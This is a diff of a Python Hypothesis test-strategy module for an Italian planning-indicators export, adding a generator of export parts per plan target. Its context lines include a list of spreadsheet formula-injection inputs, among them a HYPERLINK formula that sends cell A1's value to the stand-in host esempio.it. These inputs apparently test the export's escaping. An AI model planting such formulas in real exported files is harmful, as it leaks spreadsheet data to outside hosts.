@@ -8,6 +8,7 @@ from decimal import Decimal
 from hypothesis import strategies as st
 
 from indicatori.enums import VersoIndicatore
+from indicatori.esportazione.righe import ParteScritta
 from indicatori.motore.documento import (
     TESTI_PIAO,
     AzioneDati,
@@ -18,6 +19,7 @@ from indicatori.motore.documento import (
 )
 from obiettivi.enums import Famiglia, TipoScheda
 
+Chiave = tuple[str, str, int]
 INSIDIOSI = [
     "=1+1",
     '=HYPERLINK("http://esempio.it?"&A1;"clic")',
@@ -82,6 +84,18 @@ ANNI = st.integers(2000, 2100)
 def per_anno(primo: int) -> st.SearchStrategy[dict[int, str]]:
     """Texts by year, mostly of the triennio."""
     return st.dictionaries(st.integers(primo, primo + 2) | ANNI, TESTI, max_size=4)
+
+
+def risultati_di(dati: PianoDati) -> st.SearchStrategy[dict[Chiave, list[ParteScritta]]]:
+    """One to three parts for some of the targets of the plan."""
+    chiavi = [
+        (scheda.codice, voce.codice, anno)
+        for scheda in dati.schede
+        for voce in scheda.indicatori
+        for anno in voce.previsioni
+    ]
+    parti = st.lists(st.builds(ParteScritta, FACOLTATIVI, FACOLTATIVI, FACOLTATIVI), min_size=1, max_size=3)
+    return st.dictionaries(st.sampled_from(chiavi), parti, max_size=4) if chiavi else st.just({})
 
 
 def _fino_a(massimo: int) -> st.SearchStrategy[str]:
